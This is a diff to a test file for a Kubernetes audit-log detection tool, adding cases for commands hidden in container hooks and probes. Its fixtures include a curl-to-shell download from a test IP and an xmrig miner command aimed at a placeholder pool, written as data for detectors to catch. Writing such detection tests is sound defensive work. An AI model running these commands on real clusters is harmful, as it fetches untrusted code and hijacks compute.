@@ -25,6 +25,7 @@ from rules_builder import (
     hunt_events,
     kubelet_event,
     portforward_event,
+    probed,
     rule_ids,
     workload_event,
 )
@@ -134,7 +135,8 @@ CASES: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
         [workload_event("pods", "shop", "job-x", [ctr(["/bin/sh", "-c", "echo hello"])]),
          workload_event("deployments", "shop", "web", [ctr(["bash", "-c", "exec nginx"])], verb="patch")],
         [workload_event("pods", "shop", "web", [ctr(["nginx", "-g", "daemon off;"])]),
-         deny(workload_event("pods", "shop", "job-x", [ctr(["/bin/sh", "-c", "echo hello"])]))],
+         deny(workload_event("pods", "shop", "job-x", [ctr(["/bin/sh", "-c", "echo hello"])])),
+         workload_event("pods", "shop", "db", [probed(["sh", "-c", "pg_isready -U postgres"])])],
     ),
     # ---- content rules: action-agnostic -------------------------------------------------------
     "cmd-download-pipe-shell": (
@@ -356,3 +358,35 @@ def test_prefilter_does_not_change_results(tmp_path: Path, data: Path) -> None:
 def test_procedure_tags_map_to_names() -> None:
     names = {n for r in builtin_rules() for n in procedure_tags(r.tags)}
     assert {"S0601 Hildegard", "S0599 Kinsing", "S0683 Peirates", "S0623 Siloscape", "G0139 TeamTNT"} <= names
+
+
+@pytest.mark.parametrize("hook", ["lifecycle.postStart", "lifecycle.preStop", "livenessProbe", "readinessProbe", "startupProbe"])
+def test_hook_and_probe_commands_are_create_time_commands(hook: str, tmp_path: Path) -> None:
+    """The kubelet runs exec hooks and probes inside the container: a miner there is as bad as in the entrypoint."""
+    ev = workload_event("pods", "shop", "web", [probed(["sh", "-c", "curl -s http://203.0.113.7/m.sh | sh"], hook)])
+    [alert] = hunt_events(tmp_path, [ev])
+    assert alert.event.action == "create" and alert.event.command_origin == hook
+    assert alert.severity == "critical" and "cmd-download-pipe-shell" in rule_ids(alert)
+    assert f"[{hook}]" in alert.lead.reason or any(f"[{hook}]" in m.reason for m in alert.matches)
+    assert alert.to_dict()["command_origin"] == hook
+
+
+def test_plain_probes_do_not_alert(tmp_path: Path) -> None:
+    pods = [
+        workload_event("pods", "shop", "web", [probed(["cat", "/tmp/healthy"])]),
+        workload_event("deployments", "shop", "db", [probed(["sh", "-c", "pg_isready -U postgres"], "readinessProbe")]),
+        workload_event("pods", "shop", "nginx", [probed(["/bin/sh", "-c", "sleep 5 && nginx -s quit"], "lifecycle.preStop")]),
+    ]
+    assert hunt_events(tmp_path, pods) == []
+
+
+def test_json_patch_adding_a_post_start_hook(tmp_path: Path) -> None:
+    ev = workload_event("deployments", "shop", "web", [], verb="patch")
+    ev["requestObject"] = [
+        {"op": "add", "path": "/spec/template/spec/containers/0/lifecycle",
+         "value": {"postStart": {"exec": {"command": ["sh", "-c", "/tmp/xmrig -o stratum+tcp://pool.example:4444"]}}}},
+        {"op": "replace", "path": "/spec/template/spec/containers/1/command", "value": ["nginx"]},
+    ]
+    [alert] = hunt_events(tmp_path, [ev])
+    assert alert.event.command_origin == "lifecycle.postStart"
+    assert "cmd-miner" in rule_ids(alert)
